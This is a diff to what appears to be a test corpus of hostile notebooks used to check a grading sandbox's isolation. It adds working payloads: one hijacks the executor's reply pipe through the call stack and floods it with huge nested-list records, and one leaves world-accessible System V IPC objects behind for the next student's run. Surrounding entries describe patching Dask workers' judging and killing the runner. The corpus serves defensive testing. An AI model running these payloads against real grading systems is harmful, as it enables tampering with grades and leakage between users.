@@ -39,6 +39,10 @@ class                 what the notebook does
                       it (and into ``{marker}``), and leaves a process that writes it again later
 ``ignore_interrupt``  (:data:`COSTLY`) makes every later cell hang with SIGINT ignored, and its own
                       cell hang when it is replayed after a kill
+``flood_envelope``    reaches the executor's reply pipe through the call stack and sends lines of
+                      millions of nested lists where a record's text belongs
+``leave_ipc``         leaves a 64 MiB System V shared memory segment (mode 0666), a message
+                      queue and a semaphore set (key ``0x0a2c0033``) for the next run
 ``reach_scheduler``   reads a Dask scheduler's address from ``/proc`` and the environment,
                       connects, and patches every worker's judging through ``Client.run``
 ``kill_runner``       (:data:`COSTLY`) kills and stops the supervising runner, by its parent's pid,
@@ -52,9 +56,9 @@ take super-linear time) and ``lexer_metadata`` (the notebook's language and a ce
 notebook for nbgrader, the feedback and formgrader.
 
 Attacks on the trusted side that no notebook carries are kept as tests beside the code they
-attack: the channel's envelope flooded with nested lists
-(``tests/test_sandbox_isolation.py``), a ``timestamp.txt`` the student wrote
-(``tests/test_late_and_roster.py``), System V IPC left for the next run in container mode
+attack, as well as in the corpus where a notebook can carry them: the channel's envelope
+flooded with nested lists (``tests/test_sandbox_isolation.py``), a ``timestamp.txt`` the student
+wrote (``tests/test_late_and_roster.py``), System V IPC left for the next run in container mode
 (``tests/test_sandbox_isolation.py``), a Dask worker in container mode without a network fence
 and a client without the cluster's certificate (``tests/test_cluster_grading.py``).
 
@@ -73,6 +77,7 @@ from nbformat import NotebookNode
 __all__ = [
     "ATTACKS",
     "COSTLY",
+    "IPC_KEY",
     "NOTEBOOK_ATTACKS",
     "PERSISTENT",
     "SLOW_LEXERS",
@@ -504,6 +509,41 @@ if os.fork() == 0:
         _write_everywhere()
     os._exit(0)
 """,
+    "flood_envelope": r"""
+# Reach the executor's reply pipe through the call stack and send, as the first probe steps'
+# replies, lines of nested lists where a record's text belongs (the runner forwards them).
+import sys
+def _reply_pipe():
+    for _frame in list(sys._current_frames().values()):
+        while _frame is not None:
+            if "replies" in _frame.f_locals and "seq" in _frame.f_locals:
+                return _frame.f_locals["replies"], _frame.f_locals["seq"]
+            _frame = _frame.f_back
+    return None, None
+_flooded = []
+def make_model(n_actions):
+    replies, seq = _reply_pipe()
+    if replies is not None and not _flooded:
+        _flooded.append(seq)
+        nested = b"[" + b"[]," * 3_000_000 + b"[]]"
+        for _ in range(2):
+            replies.write(b'{"key": "flood", "record": %s, "seq": %d}\n' % (nested, seq))
+        replies.flush()
+    raise NotImplementedError()
+""",
+    "leave_ipc": r"""
+# Leave System V IPC behind for the next run (another user id): a 64 MiB shared memory segment
+# any user may open, with a message in it, a message queue and a semaphore set.
+import ctypes
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+_segment = _libc.shmget(0x0A2C0033, 64 * 1024 * 1024, 0o1666)  # IPC_CREAT | 0666
+if _segment >= 0:
+    _address = _libc.shmat(_segment, None, 0)
+    if _address not in (None, ctypes.c_void_p(-1).value):
+        ctypes.memmove(_address, b"left for the next student", 25)
+print("ipc", _segment, _libc.msgget(0x0A2C0033, 0o1666), _libc.semget(0x0A2C0033, 1, 0o1666))
+""",
     "reach_scheduler": r"""
 # Graded by a Dask worker? Find the scheduler's address (the worker's command line, Dask's
 # variables), connect to it, and patch every worker's judging through Client.run.
@@ -538,6 +578,9 @@ for _address in sorted(a for a in _addresses if a):
         print("refused", _address, type(error).__name__, str(error)[:200])
 """,
 }
+
+#: The key of ``leave_ipc``'s IPC objects (``/proc/sysvipc`` lists keys in decimal).
+IPC_KEY = 0x0A2C0033
 
 #: Attacks meant to change what happens after their own grading.
 PERSISTENT = ("outlive", "write_environment")
